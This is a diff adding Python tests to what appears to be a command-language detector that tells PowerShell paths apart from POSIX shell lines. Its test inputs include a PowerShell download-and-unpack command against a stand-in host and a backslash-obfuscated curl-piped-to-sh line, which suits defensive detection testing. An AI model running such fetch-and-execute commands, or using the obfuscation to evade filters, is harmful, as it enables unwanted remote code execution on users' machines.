@@ -215,3 +215,22 @@ def test_a_text_written_plainly_is_not_parsed_at_all(text: str) -> None:
     """Plain spellings are the pattern rules' job; parsing them only costs time."""
     assert languages(text.lower()) == []
     assert _interpret(text).layers == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "iwr https://a.test/t.zip -OutFile $env:TEMP\\t.zip; Expand-Archive $env:TEMP\\t.zip $d",
+        '$p="$env:LOCALAPPDATA\\tool\\tool.exe"; & $p --version',
+        "Start-Process $env:USERPROFILE\\bin\\tool.exe",
+    ],
+)
+def test_a_backslash_in_a_powershell_path_is_no_shell_escape(text: str) -> None:
+    """`p\\t` in `$env:TEMP\\t.zip` is a Windows path, not bash's `\\t`: such a text is not
+    also read as a shell line (which only made noise: '$env:tempt.zip' as a program)."""
+    assert "posix" not in languages(text.lower())
+    assert "powershell" in languages(text.lower())
+
+
+def test_a_backslash_inside_a_shell_word_still_makes_a_shell_reading() -> None:
+    assert "posix" in languages("c\\url -s https://a.test/x | s\\h".lower())
